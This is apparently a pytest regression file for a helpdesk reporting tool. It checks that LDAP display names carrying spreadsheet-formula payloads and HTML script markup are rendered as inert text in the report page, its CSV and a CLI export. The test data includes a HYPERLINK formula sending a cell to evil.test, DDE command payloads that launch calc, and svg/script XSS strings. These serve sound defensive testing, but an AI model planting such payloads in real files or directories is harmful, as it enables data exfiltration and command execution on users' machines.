"""Issue 16, reports: no text from the directory runs as a formula or as markup in a report.

The people not enrolled are listed by login and display name, on the page, in its CSV and by
``sspm report --not-enrolled``. A display name is often writable by its owner (``by self
write`` is a common slapd ACL), and the CSV is opened by an IT manager in a spreadsheet. The
red team's names, set on real slapd:

- ``=HYPERLINK("http://evil.test/?"&A1,"Click")`` and ``@SUM(1+1)*cmd|' /C calc'!A0``: a
  spreadsheet runs them as formulas. The page's CSV quoted them; ``sspm report
  --not-enrolled`` (the cron job's CSV) wrote them as they were. Leading spaces, a tab or a
  full-width ``＝`` before the formula: the page's CSV let those through too.
- ``<svg onload=alert(1)>`` and ``</td><script>…``: escaped on the page (and the CSP allows no
  script anyway).
- The page and its CSVs never carry an enrolled person's mobile or answers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator

import pytest
from flask.testing import FlaskClient
from ldap3 import MODIFY_REPLACE, Connection, Server

from bot.local_stack import LocalRedis, SlapdInfo, demo_user
from bot.local_stack.seed import AGENTS_GROUP_DN, REPORTERS_GROUP_DN
from bot.report_command import run_report
from tests.channels.twilio.support import WebStack, web_settings, web_stack
from tests.helpdesk.test_console import sign_in

REPORTER = ("bob", "Battery-Staple-77")
FORMULAS = {
    "bob": '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "dave": "@SUM(1+1)*cmd|' /C calc'!A0",
    "grace": "  +cmd|' /C calc'!A0",
    "hana": "\t=1+1",
    "ivan": "＝1+1",
}
MARKUP = {"frank": "<svg onload=alert(1)>", "dave": "</td><script>alert(1)</script>"}


@pytest.fixture
def reports_stack(slapd: SlapdInfo, redis_server: LocalRedis,
                  redis_client: object) -> Iterator[WebStack]:
    settings = web_settings(slapd, redis_server.info.url)
    helpdesk = {"phone": settings.helpdesk.phone, "email": "helpdesk@example.test",
                "agents_group": AGENTS_GROUP_DN, "reporters_group": REPORTERS_GROUP_DN}
    with web_stack(web_settings(slapd, redis_server.info.url, helpdesk=helpdesk)) as built:
        yield built


def rename(slapd: SlapdInfo, names: dict[str, str]) -> None:
    with Connection(Server(slapd.url), slapd.admin_dn, slapd.admin_password,
                    auto_bind=True) as admin:
        for uid, name in names.items():
            assert admin.modify(demo_user(uid).dn, {"cn": [(MODIFY_REPLACE, [name])]})


def reporter(stack: WebStack) -> FlaskClient:
    client = stack.client()
    sign_in(client, *REPORTER)
    return client


def would_run(cell: str) -> bool:
    """What a spreadsheet would take for a formula: after blanks, a formula sign, in any width."""
    import unicodedata

    first = unicodedata.normalize("NFKC", cell.lstrip(" \t\r\n")[:1])
    return first in ("=", "+", "-", "@")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_page_csv_runs_no_formula(reports_stack: WebStack, slapd: SlapdInfo) -> None:
    rename(slapd, FORMULAS)
    response = reporter(reports_stack).get("/helpdesk/reports/not-enrolled.csv")
    assert response.status_code == 200
    found = cells(response.get_data(as_text=True))
    for name in FORMULAS.values():
        assert any(name.strip() in cell for cell in found), name  # listed...
    assert not [cell for cell in found if would_run(cell)]  # ...as text


def test_sspm_report_not_enrolled_runs_no_formula(reports_stack: WebStack,
                                                  slapd: SlapdInfo) -> None:
    rename(slapd, FORMULAS)
    out = io.StringIO()
    assert run_report(reports_stack.settings, days=30, as_csv=False, not_enrolled=True,
                      out=out) == 0
    found = cells(out.getvalue())
    for name in FORMULAS.values():
        assert any(name.strip() in cell for cell in found), name
    assert not [cell for cell in found if would_run(cell)]


def test_markup_in_a_display_name_is_text_on_the_page(reports_stack: WebStack,
                                                      slapd: SlapdInfo) -> None:
    rename(slapd, MARKUP)
    page = reporter(reports_stack).get("/helpdesk/reports")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert "<svg onload" not in html and "<script>" not in html
    assert "&lt;svg onload=alert(1)&gt;" in html
    assert "script-src" not in page.headers["Content-Security-Policy"]  # default-src 'none'


def test_no_enrolment_secret_in_the_reports(reports_stack: WebStack) -> None:
    client = reporter(reports_stack)
    served = "".join(client.get(path).get_data(as_text=True) for path in (
        "/helpdesk/reports", "/helpdesk/reports/activity.csv",
        "/helpdesk/reports/not-enrolled.csv"))
    alice = demo_user("alice")
    assert "alice" not in re.findall(r'class="login">([^<]*)<', served)  # enrolled: not listed
    for secret in (alice.mobile, "Biscuit", "biscuit", "q.first_pet", "$argon2"):
        assert secret not in served, secret
